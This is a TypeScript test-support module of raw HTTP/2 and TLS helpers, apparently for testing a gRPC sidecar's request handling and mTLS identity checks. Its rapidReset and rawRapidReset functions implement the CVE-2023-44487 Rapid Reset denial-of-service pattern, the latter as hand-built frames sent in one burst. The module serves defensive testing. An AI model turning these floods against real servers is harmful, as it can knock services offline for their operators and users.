// Raw HTTP/2 (node:http2) and TLS helpers for what grpc-js will not send: arbitrary
// `:path`, content-types and bodies, rapid resets, bare handshakes. Test support only.

import * as http2 from 'node:http2';
import * as tls from 'node:tls';
import { splitHostPort } from './ports.js';

/** Client TLS settings (a client SVID is optional), or plaintext h2c. */
export type H2Tls =
  | {
      caPem?: string | Buffer;
      certPem?: string | Buffer;
      keyPem?: string | Buffer;
      /** SNI; none by default (the sidecar is addressed by IP). */
      servername?: string;
      /** Check the server's only URI SAN; unset = any server the CA verifies. */
      expectServerId?: string;
      /** Default true. */
      rejectUnauthorized?: boolean;
    }
  | 'plaintext';

export interface RawRequest {
  path: string;
  method?: string;
  /** Default: the address the session connected to. */
  authority?: string;
  /** Default `application/grpc`; `null` sends no content-type at all. */
  contentType?: string | null;
  headers?: http2.OutgoingHttpHeaders;
  body?: Buffer | Uint8Array | string;
  /** Send END_STREAM after the body (default true). */
  endStream?: boolean;
  /** Default 5 s; then the stream is cancelled and the promise rejects. */
  timeoutMs?: number;
}

export interface RawResponse {
  /** HTTP `:status`; unset when the stream ended without a response. */
  status?: number;
  headers: http2.IncomingHttpHeaders;
  trailers: http2.IncomingHttpHeaders;
  body: Buffer;
  /** RST_STREAM code when the stream was reset with an error code (e.g. 7 REFUSED_STREAM, 8 CANCEL). */
  rstCode?: number;
  /** Stream or session error message (e.g. a TLS alert), if one occurred. */
  error?: string;
}

const DEFAULT_TIMEOUT_MS = 5_000;

function uriSansOf(cert: tls.PeerCertificate | undefined): string[] {
  const out: string[] = [];
  for (const m of (cert?.subjectaltname ?? '').matchAll(/(\w+):("(?:[^"\\]|\\.)*"|[^,]*)(?:,\s*|$)/g)) {
    if (m[1] === 'URI') out.push(m[2]?.startsWith('"') ? (JSON.parse(m[2]) as string) : (m[2] ?? ''));
  }
  return out;
}

export function tlsConnectOptions(t: Exclude<H2Tls, 'plaintext'>): tls.ConnectionOptions {
  const opts: tls.ConnectionOptions = {
    ALPNProtocols: ['h2'],
    rejectUnauthorized: t.rejectUnauthorized ?? true,
    checkServerIdentity: (_host, cert) => {
      if (t.expectServerId === undefined) return undefined;
      const uris = uriSansOf(cert);
      return uris.length === 1 && uris[0] === t.expectServerId
        ? undefined
        : new Error(`server SPIFFE ID mismatch: expected ${t.expectServerId}, got [${uris.join(', ')}]`);
    },
  };
  if (t.caPem !== undefined) opts.ca = t.caPem;
  if (t.certPem !== undefined) opts.cert = t.certPem;
  if (t.keyPem !== undefined) opts.key = t.keyPem;
  if (t.servername !== undefined) opts.servername = t.servername;
  return opts;
}

function timeoutError(what: string, ms: number): Error {
  return new Error(`raw-h2: ${what} timed out after ${ms} ms`);
}

/** Opens an HTTP/2 session to `host:port` and waits until it is connected (TLS done). */
export function openSession(authority: string, t: H2Tls, timeoutMs = DEFAULT_TIMEOUT_MS): Promise<http2.ClientHttp2Session> {
  const url = t === 'plaintext' ? `http://${authority}` : `https://${authority}`;
  const session = t === 'plaintext' ? http2.connect(url) : http2.connect(url, tlsConnectOptions(t));
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => fail(timeoutError(`connect to ${authority}`, timeoutMs)), timeoutMs);
    const cleanup = (): void => {
      clearTimeout(timer);
      session.removeListener('connect', onConnect);
      session.removeListener('error', fail);
      session.removeListener('close', onClose);
    };
    const onConnect = (): void => {
      cleanup();
      // Later errors surface on the streams; an unhandled 'error' would crash the test process.
      session.on('error', () => {});
      resolve(session);
    };
    const onClose = (): void => fail(new Error(`raw-h2: session to ${authority} closed before connecting`));
    function fail(err: Error): void {
      cleanup();
      session.on('error', () => {});
      session.destroy();
      reject(err);
    }
    session.once('connect', onConnect);
    session.once('error', fail);
    session.once('close', onClose);
  });
}

/** Closes a session gracefully, destroying it if it has not closed within `timeoutMs`. */
export function closeSession(session: http2.ClientHttp2Session, timeoutMs = 2_000): Promise<void> {
  if (session.destroyed) return Promise.resolve();
  return new Promise((resolve) => {
    const timer = setTimeout(() => {
      session.destroy();
      resolve();
    }, timeoutMs);
    session.close(() => {
      clearTimeout(timer);
      resolve();
    });
  });
}

/** Sends one request on an open session and waits until its stream closes. */
export function rawRequestOn(session: http2.ClientHttp2Session, req: RawRequest): Promise<RawResponse> {
  const timeoutMs = req.timeoutMs ?? DEFAULT_TIMEOUT_MS;
  const headers: http2.OutgoingHttpHeaders = {
    ':method': req.method ?? 'POST',
    ':path': req.path,
    te: 'trailers',
    ...req.headers,
  };
  if (req.authority !== undefined) headers[':authority'] = req.authority;
  const contentType = req.contentType === undefined ? 'application/grpc' : req.contentType;
  if (contentType !== null) headers['content-type'] = contentType;

  return new Promise((resolve, reject) => {
    let stream: http2.ClientHttp2Stream;
    try {
      stream = session.request(headers, { endStream: false });
    } catch (err) {
      reject(err);
      return;
    }
    const res: RawResponse = { headers: {}, trailers: {}, body: Buffer.alloc(0) };
    const chunks: Buffer[] = [];
    const timer = setTimeout(() => {
      stream.close(http2.constants.NGHTTP2_CANCEL);
      reject(timeoutError(`request ${req.path}`, timeoutMs));
    }, timeoutMs);
    stream.on('response', (h) => {
      res.headers = h;
      res.status = Number(h[':status']);
    });
    stream.on('trailers', (t) => (res.trailers = t));
    stream.on('data', (c: Buffer) => chunks.push(c));
    stream.on('error', (err: Error) => (res.error ??= err.message));
    stream.on('close', () => {
      clearTimeout(timer);
      res.body = Buffer.concat(chunks);
      if (stream.rstCode !== undefined && stream.rstCode !== http2.constants.NGHTTP2_NO_ERROR) res.rstCode = stream.rstCode;
      resolve(res);
    });
    if (req.body !== undefined) stream.write(req.body);
    if (req.endStream !== false) stream.end();
  });
}

/** One request on a fresh session (closed afterwards). Rejects only on timeout or if the session never connects. */
export async function rawRequest(authority: string, t: H2Tls, req: RawRequest): Promise<RawResponse> {
  const session = await openSession(authority, t, req.timeoutMs);
  try {
    return await rawRequestOn(session, req);
  } finally {
    await closeSession(session);
  }
}

/** gRPC length-prefixed message: 1 byte compressed flag, 4 bytes big-endian length, message. */
export function grpcFrame(message: Uint8Array, compressed = false): Buffer {
  const out = Buffer.alloc(5 + message.length);
  out[0] = compressed ? 1 : 0;
  out.writeUInt32BE(message.length, 1);
  out.set(message, 5);
  return out;
}

/** Splits a body into gRPC messages; a truncated tail is returned as `rest`. */
export function parseGrpcFrames(body: Buffer): { messages: Array<{ compressed: boolean; message: Buffer }>; rest: Buffer } {
  const messages: Array<{ compressed: boolean; message: Buffer }> = [];
  let off = 0;
  while (off + 5 <= body.length) {
    const len = body.readUInt32BE(off + 1);
    if (off + 5 + len > body.length) break;
    messages.push({ compressed: body[off] === 1, message: body.subarray(off + 5, off + 5 + len) });
    off += 5 + len;
  }
  return { messages, rest: body.subarray(off) };
}

export interface RapidResetResult {
  /** HEADERS+RST_STREAM pairs handed to nghttp2. */
  sent: number;
  /** Streams whose 'close' was seen before the session settled. */
  closed: number;
  goaway?: { errorCode: number; lastStreamID: number };
  sessionError?: string;
  /** Whether the session was still open once everything settled. */
  sessionAlive: boolean;
}

/**
 * CVE-2023-44487 style: on one session, n × (HEADERS immediately followed by RST_STREAM
 * CANCEL). Returns once every stream has closed, the session closed, or `timeoutMs` passed.
 */
export async function rapidReset(
  authority: string,
  t: H2Tls,
  n: number,
  opts: { path?: string; timeoutMs?: number } = {},
): Promise<RapidResetResult> {
  const timeoutMs = opts.timeoutMs ?? DEFAULT_TIMEOUT_MS;
  const session = await openSession(authority, t, timeoutMs);
  const result: RapidResetResult = { sent: 0, closed: 0, sessionAlive: true };
  session.on('goaway', (errorCode: number, lastStreamID: number) => (result.goaway ??= { errorCode, lastStreamID }));
  session.on('error', (err: Error) => (result.sessionError ??= err.message));
  const sessionClosed = new Promise<void>((resolve) => session.once('close', resolve));
  const streamsClosed: Array<Promise<void>> = [];
  const headers = { ':method': 'POST', ':path': opts.path ?? '/meshward.demo.v1.Echo/Unary', 'content-type': 'application/grpc', te: 'trailers' };

  for (let i = 0; i < n; i++) {
    if (session.closed || session.destroyed) break;
    let stream: http2.ClientHttp2Stream;
    try {
      stream = session.request(headers, { endStream: false });
    } catch (err) {
      result.sessionError ??= (err as Error).message;
      break;
    }
    stream.on('error', () => {});
    streamsClosed.push(new Promise<void>((resolve) => stream.once('close', () => (result.closed++, resolve()))));
    stream.close(http2.constants.NGHTTP2_CANCEL);
    result.sent++;
  }

  let timer: NodeJS.Timeout | undefined;
  await Promise.race([
    Promise.all(streamsClosed),
    sessionClosed,
    new Promise<void>((resolve) => (timer = setTimeout(resolve, timeoutMs))),
  ]);
  clearTimeout(timer);
  result.sessionAlive = !session.closed && !session.destroyed && result.goaway === undefined;
  await closeSession(session);
  return result;
}

export interface TlsProbeResult {
  /** true when the server completed the handshake and then spoke (HTTP/2 SETTINGS). */
  accepted: boolean;
  alpn?: string | false | null;
  /** URI SANs of the server certificate, when the handshake got that far. */
  serverUris?: string[];
  error?: string;
}

/**
 * Connects with TLS and waits for the server's first bytes. With TLS 1.3 the client
 * finishes its handshake before the server has checked the client certificate, so a
 * refusal only shows up as an alert (an 'error') after 'secureConnect'.
 */
export function tlsProbe(authority: string, t: Exclude<H2Tls, 'plaintext'>, timeoutMs = DEFAULT_TIMEOUT_MS): Promise<TlsProbeResult> {
  const { host, port } = splitHostPort(authority);
  return new Promise((resolve) => {
    const result: TlsProbeResult = { accepted: false };
    const socket = tls.connect({ ...tlsConnectOptions(t), host, port });
    let done = false;
    const finish = (): void => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    };
    const timer = setTimeout(() => {
      result.error ??= `no answer within ${timeoutMs} ms`;
      finish();
    }, timeoutMs);
    socket.once('secureConnect', () => {
      result.alpn = socket.alpnProtocol;
      result.serverUris = uriSansOf(socket.getPeerCertificate());
      // HTTP/2 client preface + empty SETTINGS, so an h2 server answers.
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0])]));
    });
    socket.once('data', () => {
      result.accepted = result.error === undefined;
      finish();
    });
    socket.on('error', (err) => {
      if (done) return;
      result.error = err.message;
      finish();
    });
    socket.once('close', () => {
      if (done) return;
      result.error ??= 'closed by server';
      finish();
    });
  });
}

/** HPACK literal header field without indexing, new name (RFC 7541 §6.2.2); short strings only. */
function hpackLiteral(name: string, value: string): Buffer {
  if (name.length > 126 || value.length > 126) throw new Error('hpackLiteral: short strings only');
  return Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
}

function h2Frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

export interface RawRapidResetResult {
  /** GOAWAY error code the server sent, if it sent one. */
  goawayCode?: number;
  /** Whether the server closed the connection. */
  closed: boolean;
}

/**
 * The CVE-2023-44487 pattern written as raw frames: n × (HEADERS + RST_STREAM CANCEL)
 * in one write, as an attacker sends them (a well-behaved client library would pace
 * them by SETTINGS_MAX_CONCURRENT_STREAMS). Waits for GOAWAY, close, or `timeoutMs`.
 */
export function rawRapidReset(authority: string, t: Exclude<H2Tls, 'plaintext'>, n: number, opts: { path?: string; timeoutMs?: number } = {}): Promise<RawRapidResetResult> {
  const { host, port } = splitHostPort(authority);
  const block = Buffer.concat([
    Buffer.from([0x83, 0x87]), // :method POST, :scheme https (static table)
    hpackLiteral(':path', opts.path ?? '/meshward.demo.v1.Echo/Unary'),
    hpackLiteral(':authority', authority),
    hpackLiteral('content-type', 'application/grpc'),
    hpackLiteral('te', 'trailers'),
  ]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
  const frames: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), h2Frame(0x4, 0, 0, Buffer.alloc(0))];
  for (let i = 0; i < n; i++) {
    const id = 1 + 2 * i;
    frames.push(h2Frame(0x1, 0x4 /* END_HEADERS */, id, block), h2Frame(0x3, 0, id, cancel));
  }
  return new Promise((resolve) => {
    const result: RawRapidResetResult = { closed: false };
    const socket = tls.connect({ ...tlsConnectOptions(t), host, port, ALPNProtocols: ['h2'] });
    let buffered = Buffer.alloc(0);
    const timer = setTimeout(() => finish(), opts.timeoutMs ?? DEFAULT_TIMEOUT_MS);
    function finish(): void {
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    }
    socket.once('secureConnect', () => socket.write(Buffer.concat(frames)));
    socket.on('data', (chunk: Buffer) => {
      buffered = Buffer.concat([buffered, chunk]);
      while (buffered.length >= 9) {
        const len = buffered.readUIntBE(0, 3);
        if (buffered.length < 9 + len) break;
        if (buffered[3] === 0x7 && len >= 8) {
          result.goawayCode = buffered.readUInt32BE(9 + 4);
          return finish();
        }
        buffered = buffered.subarray(9 + len);
      }
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      result.closed = true;
      finish();
    });
  });
}
